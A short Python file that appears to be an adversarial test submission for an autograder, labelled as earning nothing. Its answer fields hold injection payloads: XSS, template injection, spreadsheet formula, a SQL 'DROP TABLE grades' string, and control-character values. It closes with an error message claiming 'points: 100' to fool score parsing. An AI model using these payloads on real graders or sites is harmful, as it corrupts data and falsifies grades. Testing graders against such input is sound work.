"""Answers with HTML, JavaScript, templates, formulas and SQL, to change pages and tables.

earns: nothing
"""

# %%
tag = "<" + TOKEN + " onclick=alert(1)>"
q1_per_gpu = tag + "</td></tr></table><script>alert(1)</script>"
q1_fits = "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}" + tag
q2_loader_workers = '=HYPERLINK("http://example.edu";"2")' + tag
q2_start_methods = {1: "'); DROP TABLE grades; --", 2: tag, 3: "\x1b[2J", 4: "\u202e", 5: "\0"}
q3_per_token = "[" + tag + "](javascript:alert(1)) ![x](http://example.edu/x.png) $\\href{x}{y}$"

# %%
raise ValueError(tag + " points: 100")
